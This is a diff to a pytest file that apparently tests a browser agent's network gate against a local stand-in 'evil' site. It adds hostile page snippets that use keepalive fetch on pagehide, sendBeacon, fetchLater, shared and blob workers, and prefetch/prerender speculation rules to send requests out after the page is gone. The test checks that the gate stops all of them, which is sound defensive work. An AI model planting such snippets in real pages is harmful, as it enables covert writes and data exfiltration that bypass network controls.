@@ -5,6 +5,7 @@ Two sites stand on loopback, at two ports, which are two origins. The gate allow
 
 from __future__ import annotations
 
+import time
 from collections.abc import Iterator
 
 import pytest
@@ -12,7 +13,12 @@ import pytest
 from adwright.agent.drivers.browser import ChromiumBrowser
 from adwright.agent.drivers.chromium import ChromiumDriver
 from adwright.agent.drivers.network import GatedNetwork
-from adwright.agent.drivers.protocol import DriverError, PendingRequest, SeenRequest
+from adwright.agent.drivers.protocol import (
+    DriverError,
+    GateDecision,
+    PendingRequest,
+    SeenRequest,
+)
 from adwright.agent.explore.reading_gate import ReadingGate
 from tests.support.agent.site.browsing import chromium_or_skip, node_of
 from tests.support.agent.site.pages import page
@@ -98,6 +104,68 @@ def test_nothing_leaves(
     refused = [one for one in driver.requests() if not one.decision.allowed]
     silent = ("prefetch", "worker", "data frame", "blob frame", "ping", "download", "script link")
     assert refused or name in silent
+
+
+_LEAVING = "<script>addEventListener('{on}', () => {{{{ {do} }}}})</script>"
+_RULES = '<script type="speculationrules">{{{{"{kind}": [{{{{"source": "list", "urls": ["{url}"], '
+_RULES += '"eagerness": "immediate"}}}}]}}}}</script>'
+_FETCH = "fetch('{url}', {{{{method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'}}}})"
+#: Ways that lead round a gate that sits in the page: they need no page, or outlive it.
+ROUND = {
+    "kept alive as hidden": _LEAVING.format(on="pagehide", do=_FETCH.format(url="/offers/1")),
+    "kept alive away": _LEAVING.format(on="pagehide", do=_FETCH.format(url="{evil}/x")),
+    "kept alive as seen no more": _LEAVING.format(
+        on="visibilitychange", do=_FETCH.format(url="/offers/1")
+    ),
+    "beacon as hidden": _LEAVING.format(on="pagehide", do="navigator.sendBeacon('/offers/1', 'x')"),
+    "beacon as unloaded": _LEAVING.format(
+        on="beforeunload", do="navigator.sendBeacon('/offers/1', 'x')"
+    ),
+    "later": "<script>fetchLater('/offers/1', {{method: 'POST', body: 'x'}})</script>",
+    "shared worker": "<script>new SharedWorker('/shared.js')</script>",
+    "shared worker of a blob": "<script>new SharedWorker(URL.createObjectURL(new Blob(["
+    + f'"{_FETCH.format(url="{home}/offers/1")}"'
+    + "])))</script>",
+    "worker": "<script>new Worker('/shared.js')</script>",
+    "fetched ahead": _RULES.format(kind="prefetch", url="/secret"),
+    "fetched ahead away": _RULES.format(kind="prefetch", url="{evil}/x"),
+    "drawn ahead": _RULES.format(kind="prerender", url="/secret"),
+    "drawn ahead, and writes": _RULES.format(kind="prerender", url="/writes"),
+    "link drawn ahead": '<link rel="prerender" href="/secret"><link rel="prefetch" href="/secret">',
+}
+
+
+@pytest.mark.parametrize("name", ROUND)
+def test_nothing_goes_round_the_gate(
+    chromium: ChromiumBrowser, sites: tuple[SmallSite, SmallSite], name: str
+) -> None:
+    home, evil = sites
+
+    def filled(text: str) -> str:
+        return text.format(evil=evil.url, home=home.url)
+
+    write = filled(_FETCH.format(url="/offers/1"))
+    home.extra |= {
+        "/hostile": page("Hostile", filled(ROUND[name])),
+        "/shared.js": f"{write}; {filled(_FETCH.format(url='{evil}/x'))}",
+        "/writes": page("Writes", f"<script>{write}</script>"),
+    }
+    gate = ReadingGate((home.url,))
+
+    def reads(request: PendingRequest) -> GateDecision:
+        is_ahead = request.url.endswith(("/secret", "/writes"))
+        return GateDecision(False, "ahead") if is_ahead else gate(request)
+
+    for leaves in (True, False):
+        with chromium.driver(reads) as driver:
+            driver.open(f"{home.url}/hostile")
+            driver.observe()
+            if leaves:
+                driver.open(f"{home.url}/offers")
+                assert driver.observe().url == f"{home.url}/offers"
+    time.sleep(0.3)
+    assert (home.written, evil.written, evil.asked) == ([], [], [])
+    assert not {"/secret", "/writes"} & set(home.asked)
 
 
 def test_each_step_of_a_redirect_is_asked_about(
